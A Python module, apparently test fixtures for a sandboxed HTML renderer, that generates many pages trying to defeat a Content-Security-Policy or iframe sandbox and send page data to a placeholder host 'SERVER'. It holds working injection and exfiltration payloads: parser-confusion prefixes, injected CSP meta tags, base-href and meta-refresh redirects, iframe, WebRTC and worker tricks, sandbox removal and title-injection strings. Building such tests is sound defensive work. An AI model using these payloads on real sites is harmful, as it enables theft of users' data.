"""Pages that try to be rid of the policy of their file, then send the rows in it."""

import json

SENDING = """<script>
const rows = encodeURIComponent(JSON.stringify(window.qhub ? qhub.data : "none"));
new Image().src = "http://SERVER/NAME/image?" + rows;
fetch("http://SERVER/NAME/fetch", {method: "POST", mode: "no-cors", body: rows}).catch(() => {});
</script>"""
NESTED = SENDING.replace('"', "&quot;")
MORE_POLICY = (
    '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\' data:">'
)
# What stands before the page's script, by the name of the page.
_BEFORE = {
    "comment_open": "<!--",
    "comment_head": "<!--<head>-->",
    "comment_html": "<!-- <html> <head> --><!doctype html><html><body>",
    "comment_closed": "<!-- <!doctype html><html><head> --> <p>first</p>",
    "comment_bang": "<!--><head><!--->",
    "comment_doctype": "<!DOCTYPE html><!-- <html><head> --><html><head></head><body>",
    "cdata": "<![CDATA[<head>]]>",
    "processing": "<?xml version='1.0'?><?php <head> ?>",
    "title_end": "</title></head><body>",
    "title_open": "<!DOCTYPE html><html><title><head></title>",
    "title_never_closed": "<!DOCTYPE html><html><head><title>x",
    "head_twice": "<!DOCTYPE html><html><body><head></head>",
    "head_in_attribute": "<!DOCTYPE html><html data-x='<head>'><body>",
    "head_in_style": "<!DOCTYPE html><html><style>/*<head>*/</style><body>",
    "head_in_script": "<!DOCTYPE html><html><script>'<head>'</script><body>",
    "head_in_template": "<!DOCTYPE html><html><template><head></template><body>",
    "head_in_textarea": "<!DOCTYPE html><html><textarea><head></textarea><body>",
    "head_in_noscript": "<!DOCTYPE html><html><noscript><head></noscript><body>",
    "head_in_svg": "<!DOCTYPE html><html><svg><desc><head></desc></svg><body>",
    "head_late": "<!DOCTYPE html><html><body>" + "x" * 1_000 + "<head></head>",
    "no_head": "<!DOCTYPE html><body>",
    "frameset": "<!DOCTYPE html><html><frameset><frame src='http://SERVER/NAME/frame'>"
    "</frameset><head></head>",
    "attribute_open": "<!DOCTYPE html><html lang='<head>",
    "tag_open": "<!DOCTYPE html><html <head>",
    "script_end": "</script></style></title></textarea></noscript>",
    "style_open": "<style>",
    "textarea_open": "<textarea>",
    "plaintext": "<plaintext>",
    "noscript": "<noscript><p title='</noscript>",
    "xmp": "<xmp></xmp><noembed></noembed>",
    "svg_style": "<svg><style><img title='</style>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;'>",
    "nul": "<\0head><he\0ad><!-\0- x -->",
    "mark": "\ufeff<!DOCTYPE html>",
    "utf_7": "<meta charset=utf-7>+ADw-head+AD4-",
    "utf_16": "<meta charset=utf-16le>",
    "other_charset": "<meta http-equiv=content-type content='x; charset=iso-2022-jp'>\x1b$B",
    "more_policy": MORE_POLICY,
    "base": "<base href='http://SERVER/NAME/'><img src='image'><script src='script'></script>",
    "early_frame": "<iframe srcdoc='&lt;script&gt;parent.document.body.innerHTML=1&lt;/script&gt;'>"
    "</iframe><!DOCTYPE html><head>",
    "frame_end": "'></iframe>\"></iframe>--></body></html>",
    "json_end": "</script>\u2028\u2029\\\"'`${1}]}",
    "mustache": "{{content}}{{script}}{{title}}",
    "meta_refresh": "<meta http-equiv=refresh content='0;url=http://SERVER/NAME/refresh'>",
    "link_sheet": "<link rel=stylesheet href='http://SERVER/NAME/sheet'>"
    "<style>@import 'http://SERVER/NAME/import'; body{background:url(http://SERVER/NAME/css)}</style>",
    "link_hint": "<link rel=preconnect href='http://SERVER'><link rel=dns-prefetch href='//SERVER'>"
    "<link rel=prefetch href='http://SERVER/NAME/prefetch'>"
    "<link rel=preload as=image href='http://SERVER/NAME/preload'>",
    "object": "<object data='http://SERVER/NAME/object'></object>"
    "<embed src='http://SERVER/NAME/embed'><video src='http://SERVER/NAME/video'></video>",
    "svg": "<svg><image href='http://SERVER/NAME/image'/><use href='http://SERVER/NAME/use#x'/>"
    "<script href='http://SERVER/NAME/script'></script></svg>",
    "frame": "<iframe src='http://SERVER/NAME/frame'></iframe>",
}
# Pages whose own script does it, after something has been sent to show that it ran.
_SCRIPTS = {
    "location": "location.href = 'http://SERVER/NAME/href?' + rows",
    "location_top": "top.location = 'http://SERVER/NAME/top?' + rows",
    "location_parent": "parent.location.replace('http://SERVER/NAME/parent?' + rows)",
    "window": "open('http://SERVER/NAME/open?' + rows)",
    "window_top": "open('http://SERVER/NAME/open?' + rows, '_top')",
    "form": "document.body.innerHTML = `<form id=f method=post target=_top action="
    "'http://SERVER/NAME/form'><input name=a value='${rows}'></form>`; f.submit()",
    "link": "document.body.innerHTML = `<a id=a href='http://SERVER/NAME/link?${rows}'>x</a>`;"
    " a.click()",
    "link_top": "document.body.innerHTML = `<a id=a target=_top href='http://SERVER/NAME/link'>x</a>`;"
    " a.click()",
    "write": "document.open(); document.write(`<meta http-equiv=refresh content='0;url="
    "http://SERVER/NAME/refresh'><img src='http://SERVER/NAME/image?${rows}'>`); document.close()",
    "frame_borrowed": "const f = document.body.appendChild(document.createElement('iframe'));"
    " f.contentWindow.fetch('http://SERVER/NAME/borrowed?' + rows)",
    "frame_data": "const f = document.createElement('iframe'); f.src = 'data:text/html,<img src="
    "http://SERVER/NAME/data>'; document.body.append(f)",
    "frame_source": "const f = document.createElement('iframe'); f.srcdoc = `<script>fetch("
    "'http://SERVER/NAME/source')<\\/script><img src='http://SERVER/NAME/image'>`;"
    " document.body.append(f)",
    "frame_script": "const f = document.createElement('iframe'); f.src = \"javascript:"
    "fetch('http://SERVER/NAME/script')\"; document.body.append(f)",
    "frame_peer": 'document.body.innerHTML = `<iframe srcdoc="<script>'
    "const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});"
    " peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o))"
    '&lt;/script>"></iframe>`',
    "frame_name_twice": "let asked = 0; const f = document.createElement("
    "{toString: () => asked++ ? 'iframe' : 'div'}); FRAME",
    "frame_spelled": "const f = document.createElement('IFrame'); FRAME",
    "frame_space": "const f = document.createElementNS('XHTML', 'x:iframe'); FRAME",
    "frame_document": "const f = document.implementation.createDocument("
    "'XHTML', 'iframe').documentElement; FRAME",
    "frame_parsed": "const f = new DOMParser().parseFromString(`<h:iframe xmlns:h="
    "'XHTML'/>`, 'text/xml').documentElement; FRAME",
    "frame_declared": "const f = new DOMParser().parseFromString(`<h:iframe xmlns:h='XHTML'"
    " xmlns:x-h='XHTML'/>`, 'text/xml').documentElement; FRAME",
    "frame_accented": "const f = new DOMParser().parseFromString(`<é:iframe xmlns:é='XHTML'/>`,"
    " 'text/xml').documentElement; FRAME",
    "frame_set": "document.body.setHTML('<iframe id=late></iframe>', {sanitizer: {elements:"
    " [{name: 'iframe', attributes: ['id']}]}}); const f = document.getElementById('late'); FRAME",
    "frame_written": "const other = document.implementation.createHTMLDocument(); other.write("
    "'<iframe></iframe>'); const f = other.querySelector('iframe'); FRAME",
    "frame_template": "const held = document.createElement('template'); held.innerHTML ="
    " '<p></p><!-- --><iframe></iframe>'; const f = held.content.lastChild; FRAME",
    "frame_outer": "document.body.firstChild.outerHTML = '<iframe id=late>';"
    " const f = document.getElementById('late'); FRAME",
    "frame_entity": 'const f = new DOMParser().parseFromString(`<!DOCTYPE x [<!ENTITY e "&#60;ifra'
    "me xmlns='XHTML'/>\">]><x>&e;</x>`, 'text/xml').querySelector('iframe'); FRAME",
    "frame_sheet": "const sheet = new DOMParser().parseFromString(`<xsl:stylesheet version='1.0'"
    " xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><xsl:element"
    " name='iframe'/></xsl:template></xsl:stylesheet>`, 'text/xml');"
    " const xslt = new XSLTProcessor(); xslt.importStylesheet(sheet);"
    " const f = xslt.transformToFragment(sheet, document).firstChild; FRAME",
    "frame_extended": "class F extends HTMLIFrameElement {}; customElements.define('x-f', F,"
    " {extends: 'iframe'}); const f = new F(); FRAME",
    "frame_cut": "document.write('<ifr'); document.write('ame id=late></iframe>');"
    " const f = document.getElementById('late'); FRAME",
    "frame_tampered": "String.prototype.replace = RegExp.prototype[Symbol.replace] = x => x;"
    " RegExp.prototype.exec = RegExp.prototype.test = () => null; Object.defineProperty("
    "RegExp.prototype, 'flags', {get: () => ''}); Array.prototype[Symbol.iterator] = null;"
    " window.String = () => '<iframe id=late></iframe>'; Reflect.apply = () => 'iframe';"
    " document.body.innerHTML = '<iframe id=late></iframe>';"
    " const f = document.getElementById('late') || document.createElement('iframe'); FRAME",
    "frame_shadow": "const host = document.body.appendChild(document.createElement('div'));"
    " host.attachShadow({mode: 'closed'}).innerHTML = '<iframe></iframe>';"
    " const f = host.shadowRoot?.firstChild; FRAME",
    "frame_unsafe": "document.body.setHTMLUnsafe('<iframe id=late></iframe>');"
    " const f = document.getElementById('late'); FRAME",
    "frame_copied": "const range = document.createRange(); range.selectNode(document.body);"
    " const f = range.createContextualFragment('<iframe></iframe>').firstChild.cloneNode(); FRAME",
    "frame_policy": "const made = trustedTypes.createPolicy('mine', {createHTML: x => x});"
    " document.body.innerHTML = made.createHTML('<iframe id=late></iframe>');"
    " const f = document.getElementById('late'); FRAME",
    "policy_removed": "for (const each of parent.document.querySelectorAll('meta')) each.remove();"
    " fetch('http://SERVER/NAME/fetch')",
    "sandbox_removed": "frameElement.removeAttribute('sandbox'); location.reload()",
    "asked_parent": "for (const each of [parent, top]) for (const page of ["
    "`<img src='http://SERVER/NAME/asked'>`, `<script>fetch('http://SERVER/NAME/asked')<\\/script>`])"
    " each.postMessage({page, bridge: page}, '*')",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('http://SERVER/NAME/worker')`])))",
    "late_policy": "document.head.innerHTML = `<meta http-equiv='Content-Security-Policy' content="
    "'default-src *'>`; fetch('http://SERVER/NAME/late')",
    "hint": "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload']) {"
    " const link = document.createElement('link'); link.rel = rel; link.href = 'http://SERVER/';"
    " document.head.append(link) }",
    "hint_markup": "document.body.insertAdjacentHTML('beforeend',"
    " `<LINK rel=preconnect href='http://SERVER'><link rel=dns-prefetch href='http://SERVER'>`)",
}

# What a frame that a page has made does in it, where its own means were deleted.
_PEER = (
    "f.srcdoc = `<script>const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});"
    " peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o))"
    "<\\/script>`; document.body.append(f)"
)


def pages() -> dict[str, str]:
    """Every page by its name; SERVER and UDP stand for where it sends to."""
    written = {name: f"{before}{SENDING}" for name, before in _BEFORE.items()}
    for name, written_script in _SCRIPTS.items():
        script = written_script.replace("FRAME", _PEER).replace(
            "XHTML", "http://www.w3.org/1999/xhtml"
        )
        ends = f"try {{ {script} }} catch (error) {{ document.title = error }}\n</script>"
        written[name] = SENDING.replace("</script>", ends)
    written["nested"] = f'<iframe srcdoc="{NESTED}"></iframe>'
    return {name: page.replace("NAME", name) for name, page in written.items()}


def titles() -> dict[str, str]:
    """Titles that try to be more, by the name of the page that has them."""
    image = "<img src='http://SERVER/NAME/title'>"
    written = {
        "titled_end": f"</title>{SENDING}",
        "titled_comment": f"<!--</title>{image}",
        "titled_mustache": "{{content}}</script>" + image,
        "titled_attribute": f"\"'>{image}",
        "titled_json": json.dumps(f"</script>{SENDING}"),
    }
    return {name: title.replace("NAME", name) for name, title in written.items()}
